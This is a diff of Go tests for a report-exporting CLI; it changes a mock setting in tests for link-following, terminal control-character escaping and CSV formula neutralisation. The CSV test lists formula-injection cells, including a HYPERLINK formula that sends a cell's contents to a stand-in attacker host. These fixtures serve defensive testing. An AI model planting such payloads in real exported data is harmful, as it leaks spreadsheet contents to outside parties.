@@ -23,7 +23,7 @@ import (
 // replaces nothing without --force.
 func TestOutputFilesNeverFollowLinks(t *testing.T) {
 	t.Parallel()
-	srv := bulkServer(t, mocktest.StepOnStatusReads()...)
+	srv := bulkServer(t, mocktest.NoWaits()...)
 	srv.AddReport(fake.Report{ID: 7, Name: "Deals", Columns: []fake.Column{{ID: "0", Name: "Zone"}}, Rows: [][]any{{"EMEA"}}})
 	c := newCLI(srv)
 	in := filepath.Join(t.TempDir(), "accounts.csv")
@@ -95,7 +95,7 @@ func noTerminalControl(t *testing.T, what, s string) {
 // their control characters escaped.
 func TestTerminalOutputEscapesControls(t *testing.T) {
 	t.Parallel()
-	srv := fake.NewServer(mocktest.StepOnStatusReads()...)
+	srv := fake.NewServer(mocktest.NoWaits()...)
 	t.Cleanup(srv.Close)
 	srv.AddReport(fake.Report{ID: 7, Name: "Deals" + hostile,
 		Columns: []fake.Column{{ID: "0", Name: "Zone" + hostile}, {ID: "1", Name: "Amount", Type: "NUMBER"}},
@@ -137,7 +137,7 @@ func TestTerminalOutputEscapesControls(t *testing.T) {
 // numbers included; --raw-csv writes them as they are.
 func TestCSVExportNeutralisesFormulas(t *testing.T) {
 	t.Parallel()
-	srv := fake.NewServer(mocktest.StepOnStatusReads()...)
+	srv := fake.NewServer(mocktest.NoWaits()...)
 	t.Cleanup(srv.Close)
 	cells := []any{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+2", "-5", "@SUM(A1:A2)", "\t=1", "\r=1", "plain", "a=b"}
 	cols := make([]fake.Column, len(cells))
